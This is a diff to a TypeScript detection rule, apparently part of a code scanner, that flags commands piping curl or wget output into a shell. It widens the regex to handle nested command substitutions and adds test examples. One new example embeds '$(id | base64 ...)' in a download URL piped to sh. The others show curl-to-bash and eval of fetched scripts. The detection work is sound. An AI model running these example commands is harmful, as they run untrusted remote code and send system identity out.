@@ -6,6 +6,9 @@ import { fromPackageService, isOwnInstaller, type Trust, trustOf } from "./hosts
 const shells = String.raw`(?:\/(?:usr\/)?(?:local\/)?bin\/)?(?:(?:ba|z|da|k|fi|a)?sh\b|(?:python[\d.]{0,5}|node|perl|ruby|php|bun|deno\s{1,4}run)(?:[ \t]{1,4}-(?![\w-])|(?![\w.-])(?![ \t]{1,4}[-\w.$"'/])))`;
 const rights = String.raw`(?:(?:(?:\/usr\/bin\/)?(?:sudo|doas|env)|nohup|exec|busybox|command)\s{1,4}(?:-\w{1,8}\s{1,4}|[a-z_]{1,30}=\S{0,60}\s{1,4}){0,3}){0,2}`;
 
+/** A command whose output stands in an argument, with a pipe of its own: not the pipe that is looked for. */
+const inner = String.raw`\$\([^()\n|]{0,120}\|[^()\n]{0,200}\)|\x60[^\x60\n|]{0,120}\|[^\x60\n]{0,200}\x60`;
+
 /** `curl … | bash`, with anything but another command between. Anchored at the interpreter, which is the rarer of the two. */
 const piped: TextPattern = {
   anchors: [
@@ -27,7 +30,7 @@ const piped: TextPattern = {
     "busybox",
   ],
   pattern: new RegExp(
-    String.raw`\b(?:curl|wget|fetch|aria2c)["']?\s${onLine("|")}{0,400}(?:\|[\s\\]{0,4}(?:tee|tr|sed|gunzip|gzip|zcat|cat)\b${onLine("|")}{0,80}){0,2}\|[\s\\"']{0,8}${rights}${shells}`,
+    String.raw`\b(?:curl|wget|fetch|aria2c)["']?\s(?:${inner}|${onLine("|")}){0,400}(?:\|[\s\\]{0,4}(?:tee|tr|sed|gunzip|gzip|zcat|cat)\b${onLine("|")}{0,80}){0,2}\|[\s\\"']{0,8}${rights}${shells}`,
   ),
   before: 600,
   after: 20,
@@ -203,6 +206,7 @@ export default defineRule({
   ],
   examples: {
     bad: [
+      { text: "```bash\ncurl -fsSL \"https://get.docker.com/$(id | base64 | tr -d '\\n')\" | sh\n```\n", line: 2 },
       { path: "a.sh", text: "curl -fsSL \\\n  https://get.example.test/x \\\n  | bash\n", line: 1 },
       { path: "b.sh", text: 'source /dev/stdin <<< "$(curl -s https://get.example.test/x)"\n', line: 1 },
       { path: "c.sh", text: 'steps=$(curl -s https://get.example.test/x)\neval "$steps"\n', line: 1 },
